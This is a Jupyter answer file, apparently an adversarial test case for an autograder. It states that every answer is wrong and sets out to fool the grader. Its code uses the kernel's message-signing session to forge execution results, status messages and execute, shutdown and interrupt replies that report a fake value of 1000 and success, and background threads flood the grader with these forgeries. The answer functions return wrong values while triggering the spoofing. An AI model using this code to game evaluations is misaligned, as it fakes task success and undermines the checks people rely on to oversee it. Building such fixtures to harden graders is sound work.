# Attacks: the grader's reading of the kernel's messages, by well-made forgeries. Every answer is wrong.
# %% answer id="write_conv_output_size"
import threading
import time

kernel = get_ipython().kernel
session = kernel.session  # holds the key that signs messages
FULL = {"data": {"text/plain": "1000.0"}, "metadata": {}, "execution_count": 1}


OUTPUTS = (
    ("execute_result", FULL),
    ("display_data", {"data": {"text/plain": "1000.0"}, "metadata": {}, "transient": {}}),
    ("clear_output", {"wait": False}),
    ("status", {"execution_state": "idle"}),
)
ANSWER = {"r": {"status": "ok", "data": {"text/plain": "'1000'"}, "metadata": {}}}
REPLY = {"status": "ok", "execution_count": 1, "user_expressions": ANSWER, "payload": []}


def forge(parent, times=1):
    for _ in range(times):
        for kind, content in OUTPUTS:
            session.send(kernel.iopub_socket, kind, content, parent=parent)
        time.sleep(0.01)


def forge_replies():
    """Say that whatever is asked at this moment is done, and well."""
    parent, ident = kernel.get_parent("shell"), kernel._parent_ident["shell"]
    for socket in (kernel.shell_stream, kernel.control_stream):
        for kind in ("execute_reply", "shutdown_reply", "interrupt_reply"):
            try:
                session.send(socket, kind, REPLY, parent=parent, ident=ident)
            except Exception as error:
                print(kind, error)
    forge(parent)


threading.Thread(target=forge, args=(kernel.get_parent("shell"), 200), daemon=True).start()
threading.Thread(target=forge, args=({}, 200), daemon=True).start()
forge_replies()


def conv_output_size(size, kernel, stride=1, padding=0):
    forge_replies()
    return 1000
# %% answer id="write_correlate2d"
def correlate2d(image, kernel, stride=1, padding=0):
    forge_replies()
    return None
# %% answer id="write_global_avg_pool_forward"
def global_avg_pool_forward(x):
    session.send(kernel.iopub_socket, "execute_result", FULL, parent=kernel.get_parent("shell"))
    return None, None
